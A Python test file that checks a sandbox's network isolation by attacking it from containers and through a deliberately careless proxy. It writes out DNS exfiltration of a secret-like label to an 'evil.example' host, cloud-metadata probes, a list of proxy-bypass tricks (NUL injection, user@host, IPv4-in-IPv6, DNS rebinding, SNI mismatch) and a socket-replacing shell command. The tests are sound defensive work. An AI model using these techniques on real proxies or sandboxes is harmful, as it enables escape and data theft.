"""Attacks by way of the network: each works from a plain container or past a careless proxy; none from a box."""

import asyncio
import contextlib
import json
import os
import re
import socket
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from docker import APIClient
from docker.utils import kwargs_from_env

from app.domain.ids import RunId
from app.domain.network import NetworkRefusal as No
from app.gateway.egress_line import SOCKET_NAME
from app.store import network
from app.store.database import Database
from sandboxes.base import Sandbox
from sandboxes.spec import Program
from tests.support.attacks import attack
from tests.support.boxes import Gateway, House, ask, opened_house, ran, texts
from tests.support.home import answering, home_at, supervisor_process
from tests.support.images import test_image
from tests.support.way_out import GOOD, OTHER, Outside, outside
from tests.support.world import story

pytestmark = [pytest.mark.docker, pytest.mark.asyncio(loop_scope="module")]
REACH = "import socket; print(socket.socket().connect_ex(('{}', {})))"
LOOK_UP = "import socket; socket.gethostbyname('{}')"
UNREACHABLE = "101"
NAME_SERVER = """
import socket
server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
server.bind(("0.0.0.0", 53))
print("ready", flush=True)
while True:
    question, sender = server.recvfrom(512)
    print(question, flush=True)
    server.sendto(question[:2] + b"\\x81\\x83" + question[4:], sender)
"""
CLIENT = """
import json, socket, ssl, sys
for one in json.load(open(sys.argv[1] + "/tries.json")):
    try:
        tunnel = socket.create_connection(("127.0.0.1", 3128), timeout=20)
        tunnel.sendall(one["head"].encode("latin-1") + b"\\r\\n\\r\\n")
        said = tunnel.recv(4096).decode("latin-1").splitlines() or ["cut"]
        if " 200 " not in said[0] or not one["tls"]:
            print(said[0])
            continue
        trusted = ssl.create_default_context(cafile=sys.argv[1] + "/authority.pem")
        trusted.check_hostname = False
        secure = trusted.wrap_socket(tunnel, server_hostname=one["tls"])
        secure.sendall(b"GET /x HTTP/1.1\\r\\nHost: there\\r\\n\\r\\n")
        print("reached", secure.getpeercert()["subjectAltName"][0][1])
    except OSError:
        print("cut")
"""


@dataclass
class Street:
    """A box, its ways out, and what is beyond them."""

    house: House
    out: Outside
    run: RunId
    box: Sandbox
    gateway: Gateway
    authority: bytes

    async def tries(self, box: Sandbox, name: str, tries: list[dict[str, str]]) -> list[str]:
        """What came of these requests, made in the box."""
        files = {"authority.pem": self.authority, "tries.json": json.dumps(tries).encode()}
        argv = ("python3", "-c", CLIENT, f"{box.places.launch}/{name}")
        return await texts(await box.start(Program(name=name, argv=argv, files=files)))


@story
async def street(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Street]:
    root = tmp_path_factory.mktemp("street")
    database = Database.open(root)
    async with opened_house("docker", root) as house, outside(database) as out:
        run = await out.run()
        gateway = Gateway(out.socket(run).parent)
        await gateway.up()
        box = await house.open(house.spec(sockets=gateway.directory))
        yield Street(house, out, run, box, gateway, out.net.authority.cert_pem.bytes())
        await gateway.down()
    database.close()


@pytest.fixture(scope="module")
def engine() -> Iterator[APIClient]:
    with contextlib.closing(APIClient(version="auto", **kwargs_from_env())) as api:
        yield api


@contextlib.contextmanager
def container(engine: APIClient, script: str, **host: Any) -> Iterator[str]:
    """A container as anybody makes one, on the engine's own network, while it runs."""
    made = engine.create_container(
        test_image(),
        ["bash", "-c", script],
        user="0",
        host_config=engine.create_host_config(**host),
    )["Id"]
    try:
        engine.start(made)
        yield made
    finally:
        engine.remove_container(made, force=True)


def printed(engine: APIClient, script: str, **host: Any) -> str:
    """What a script prints in such a container."""
    with container(engine, script, **host) as made:
        engine.wait(made)
        return str(engine.logs(made).decode(errors="replace")).strip()


@attack("N01")
async def test_a_box_reaches_no_service_of_the_host_or_of_its_neighbours(
    street: Street, engine: APIClient
) -> None:
    with socket.create_server(("0.0.0.0", 0)) as service:
        port = service.getsockname()[1]
        with container(engine, "exec python3 -m http.server 8000") as neighbour:
            net = engine.inspect_container(neighbour)["NetworkSettings"]
            places = [(net["Gateway"], port), (net["IPAddress"], 8000)]
            near = [f'python3 -c "{REACH.format(*place)}"' for place in places]
            told = await asyncio.to_thread(printed, engine, f"sleep 1; {'; '.join(near)}")
            assert told.split() == ["0", "0"]
            places += [("169.254.169.254", 80), ("93.184.215.14", 443), ("192.168.0.1", 80)]
            all_ = [f'python3 -c "{REACH.format(*place)}"' for place in places]
            found, _ = await ran(street.box, "; ".join(all_), name="services")
    assert found == [UNREACHABLE] * len(places)


@attack("N02")
async def test_a_box_tells_nothing_by_the_names_it_looks_up(
    street: Street, engine: APIClient
) -> None:
    look_up = f'python3 -c "{LOOK_UP.format("hunter2.evil.example")}"'
    with container(engine, f"exec python3 -c '{NAME_SERVER}'") as server:
        while b"ready" not in engine.logs(server):
            await asyncio.sleep(0.05)
        dns = [engine.inspect_container(server)["NetworkSettings"]["IPAddress"]]
        await asyncio.to_thread(printed, engine, look_up, dns=dns)
        assert b"hunter2" in engine.logs(server)
        asked = engine.logs(server)
        _, ended = await ran(street.box, look_up, name="lookup")
        assert "gaierror" in ended.stderr
        assert engine.logs(server) == asked
    servers, _ = await ran(
        street.box, "getent hosts evil.example; grep ^nameserver /etc/resolv.conf", name="servers"
    )
    reached = [f'python3 -c "{REACH.format(line.split()[1], 53)}"' for line in servers]
    assert set((await ran(street.box, "; ".join(reached) or "true", name="dns"))[0]) <= {
        UNREACHABLE
    }


def connect(target: str, tls: str = "", host: str = "") -> dict[str, str]:
    return {"head": f"CONNECT {target} HTTP/1.1\r\nHost: {host or target}", "tls": tls}


TRICKS: dict[str, tuple[dict[str, str], str]] = {
    "another host": (connect(f"{OTHER}:443", OTHER), No.NOT_ALLOWED),
    "the end of a name": (connect(f"x{GOOD}:443", GOOD), No.NOT_ALLOWED),
    "the beginning of a name": (connect(f"{GOOD}.evil.example:443", GOOD), No.NOT_ALLOWED),
    "a dot at the end": (connect(f"{GOOD}.:443", GOOD), No.NOT_A_HOST),
    "capitals": (connect(f"{GOOD.upper()}:443", GOOD), No.NOT_A_HOST),
    "NUL": (connect(f"{GOOD}\0.evil.example:443", GOOD), No.NOT_A_REQUEST),
    "a user": (connect(f"{GOOD}@{OTHER}:443", GOOD), No.NOT_A_HOST),
    "an address": (connect("127.0.0.1:443", GOOD), No.NOT_A_HOST),
    "an address of version 4 in one of version 6": (
        connect("[::ffff:127.0.0.1]:443", GOOD),
        No.NOT_A_HOST,
    ),
    "a port": (connect(f"{GOOD}:22", GOOD), No.NOT_A_HOST),
    "without TLS": (
        {"head": f"GET http://{GOOD}/ HTTP/1.1\r\nHost: {GOOD}", "tls": ""},
        No.NOT_CONNECT,
    ),
    "Host": (connect(f"{GOOD}:443", GOOD, host=OTHER), No.NOT_A_HOST),
    "the name in TLS": (connect(f"{GOOD}:443", OTHER), "cut"),
    "no name in TLS": (connect(f"{GOOD}:443", "127.0.0.1"), "cut"),
    "rebinding": (connect("rebound.example.org:443", OTHER), No.NOT_PUBLIC),
}


@attack("N03")
async def test_nothing_slips_through_the_list_of_hosts(street: Street) -> None:
    net = street.out.net
    net.names["rebound.example.org"] = ["127.0.0.1"]
    await street.out.database.write(
        network.grant, street.run, "rebound.example.org", by="ada", at=1.0
    )
    async with careless(street) as box:
        naive = ["another host", "the end of a name", "the name in TLS", "rebinding"]
        told = await street.tries(box, "careless", [TRICKS[name][0] for name in naive])
        assert told == [
            f"reached {OTHER}",
            f"reached {GOOD}",
            f"reached {GOOD}",
            f"reached {OTHER}",
        ]
    net.dialled.clear()
    tries = [one for one, _ in TRICKS.values()]
    told = await street.tries(street.box, "tricks", [*tries, connect(f"{GOOD}:443", GOOD)])
    assert told.pop() == f"reached {GOOD}"
    wanted = dict(zip(TRICKS, told, strict=True))
    assert {name: why for name, (_, why) in TRICKS.items() if why not in wanted[name]} == {}
    assert {net.names[GOOD][0]} == {address for address, _port in net.dialled}


@contextlib.asynccontextmanager
async def careless(street: Street) -> AsyncIterator[Sandbox]:
    """A box with a proxy that compares ends of names, believes in look-ups, and does not look into TLS."""
    net, directory = street.out.net, street.out.directory / "careless"

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        target = (await reader.readuntil(b"\r\n\r\n")).split()[1].decode()
        name = target.partition(":")[0]
        # Whatever ends so is let through; where a name leads is not looked at.
        known = GOOD if name.endswith(GOOD) else OTHER
        port = net.port_of(known)
        far_reader, far_writer = await asyncio.open_connection("127.0.0.1", port)
        writer.write(b"HTTP/1.1 200 fine\r\n\r\n")
        await asyncio.gather(_pump(reader, far_writer), _pump(far_reader, writer))

    directory.mkdir(mode=0o711)
    async with await asyncio.start_unix_server(serve, directory / SOCKET_NAME):
        (directory / SOCKET_NAME).chmod(0o666)
        yield await street.house.open(street.house.spec(sockets=directory))


async def _pump(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    with contextlib.suppress(OSError):
        while data := await reader.read(65536):
            writer.write(data)
            await writer.drain()
    writer.close()


@attack("N04")
async def test_a_box_cannot_touch_the_sockets(
    street: Street, engine: APIClient, tmp_path: Path
) -> None:
    with socket.socket(socket.AF_UNIX) as bound:
        bound.bind(str(tmp_path / "gateway.sock"))
        spoil = "rm /run/swarm/gateway.sock && ln -s /x /run/swarm/gateway.sock && echo done"
        binds = [f"{tmp_path}:/run/swarm"]
        assert printed(engine, spoil, binds=binds) == "done"
        assert (tmp_path / "gateway.sock").is_symlink()
    before = sorted(path.stat().st_ino for path in street.gateway.directory.iterdir())
    told, _ = await ran(street.box, f"ls /run/swarm; {spoil}; find / -name '*.sock'", name="spoil")
    beside = await street.box.aside(f"{spoil}; touch /run/swarm/x; mv /run/swarm /tmp/y")
    assert (told, beside.stdout) == ([], b"")
    assert sorted(path.stat().st_ino for path in street.gateway.directory.iterdir()) == before
    answer, _ = await ran(street.box, ask(street.box.places.gateway), name="answer")
    assert answer == ["hello"]


@attack("N14")
async def test_another_container_finds_no_port_of_the_supervisor(tmp_path: Path) -> None:
    with socket.create_server(("0.0.0.0", 0)):
        assert listening(os.getpid()) != []
    with home_at(tmp_path) as home:
        home.configure({"agent": "scripted", "sandbox": {"driver": "memory"}})
        async with supervisor_process(home) as process:
            await answering(home)
            assert listening(process.pid) == []


def listening(pid: int) -> list[str]:
    """Addresses at which a process takes connections over TCP, as the kernel tells them."""
    held = set()
    for entry in Path(f"/proc/{pid}/fd").iterdir():
        with contextlib.suppress(OSError):
            held |= set(re.findall(r"socket:\[(\d+)\]", str(entry.readlink())))
    found = []
    for table in ("tcp", "tcp6"):
        for line in Path(f"/proc/{pid}/net/{table}").read_text().splitlines()[1:]:
            fields = line.split()
            if fields[3] == "0A" and fields[9] in held:
                found.append(fields[1])
    return found
